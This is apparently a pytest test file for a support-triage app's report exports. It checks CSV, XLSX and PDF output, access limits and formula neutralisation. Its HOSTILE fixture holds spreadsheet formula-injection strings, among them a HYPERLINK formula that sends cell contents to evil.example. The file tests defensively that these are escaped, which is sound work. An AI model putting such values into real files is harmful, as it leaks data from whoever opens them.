"""The report as CSV, XLSX and PDF: same figures, real numbers and dates, nothing a formula."""

from __future__ import annotations

import io
from datetime import date

import pytest

from report_data import REPORT_NOW, SLA_HOURS, TEAMS, fill_report_data
from triage.access.roles import Actor
from triage.config.settings import parse_config
from triage.context import Context
from triage.db.schema import MentionRow
from triage.errors import AccessDenied
from triage.queue.manager_report import build_report
from triage.queue.period import parse_period
from triage.reports.files import build_report_file, report_bytes

FIRST_WEEK = parse_period("2026-11-01..2026-11-07")
HOSTILE = ("=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx")


@pytest.fixture
def report_ctx(store):
    fill_report_data(store)
    config = parse_config({"teams": {k: list(v) for k, v in TEAMS.items()},
                           "priority": {"sla_hours": SLA_HOURS, "default_sla_hours": 8}})
    return Context(store, config, {}, clock=lambda: REPORT_NOW)


def add_hostile_names(store) -> None:
    """Channel names come from imported files and owners from sign-in: both reach the report's cells."""
    with store.session() as session:
        for n, name in enumerate(HOSTILE):
            session.add(MentionRow(channel=name[:32], external_id=f"h{n}", author_handle="h", text=name,
                                   created_at=REPORT_NOW.replace(day=6), fetched_at=REPORT_NOW,
                                   updated_at=REPORT_NOW, sentiment="negative", intent="complaint", status="new",
                                   assignee=name))


def test_the_xlsx_has_one_sheet_per_table_with_numbers_dates_a_frozen_header_and_no_formula(report_ctx):
    from openpyxl import load_workbook

    add_hostile_names(report_ctx.store)
    content = report_bytes(build_report(report_ctx, FIRST_WEEK), "xlsx")
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames[:4] == ["Summary", "Agents", "Teams", "SLA by channel"]
    agents = book["Agents"]
    assert agents.freeze_panes == "A2" and agents["A1"].font.bold
    rows = {row[0]: row for row in agents.iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in agents[1]]
    assert rows["luca"][header.index("median_first_response_h")] == 3.5  # a number, not "3.5"
    assert agents.column_dimensions["A"].width >= len("anna@lumora.example")
    daily = book["Daily volume"]
    assert daily["A2"].value.date() == date(2026, 11, 1) and daily["A2"].number_format == "yyyy-mm-dd"
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'@SUM(A1)" in texts and "'" + HOSTILE[0] in texts  # the owners


def test_the_csv_is_one_record_a_line_neutralised_with_an_optional_bom(report_ctx):
    add_hostile_names(report_ctx.store)
    report = build_report(report_ctx, FIRST_WEEK)
    plain, with_bom = report_bytes(report, "csv"), report_bytes(report, "csv", bom=True)
    assert with_bom.startswith(b"\xef\xbb\xbf") and not plain.startswith(b"\xef\xbb\xbf")
    lines = plain.decode("utf-8").split("\r\n")
    assert not [line for line in lines if line.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "\r" not in plain.decode("utf-8").replace("\r\n", "")  # the CR of "\rx" was neutralised and escaped
    assert "'\\nx" in plain.decode("utf-8") and "'\tx" in plain.decode("utf-8")
    agents = lines.index("Agents")
    assert lines[agents + 1].startswith("agent,replies,first_responses,median_first_response_h")
    assert "luca,2,2,3.5,4.7,0,1,1,0,0," in lines  # rounded once: 3.5, never 3.5000


def test_the_pdf_starts_with_the_summary_and_has_the_charts(report_ctx):
    content = report_bytes(build_report(report_ctx, FIRST_WEEK), "pdf")
    assert content.startswith(b"%PDF-") and content.count(b"/Type /Page\n") + content.count(b"/Type /Page ") >= 4
    assert content.count(b"/Subtype /Image") >= 5  # the five charts, the first on the summary page


def test_only_a_manager_or_above_may_build_a_report_file(report_ctx):
    agent = Actor("anna@lumora.example", role="agent", signed_in=True)
    with pytest.raises(AccessDenied, match="only a manager or above may export data"):
        build_report_file(report_ctx, agent, FIRST_WEEK, "csv")
    manager = Actor("marco@lumora.example", role="manager", signed_in=True)
    report, content = build_report_file(report_ctx, manager, FIRST_WEEK, "csv", team="billing")
    assert report.team == "billing" and b"team billing" in content
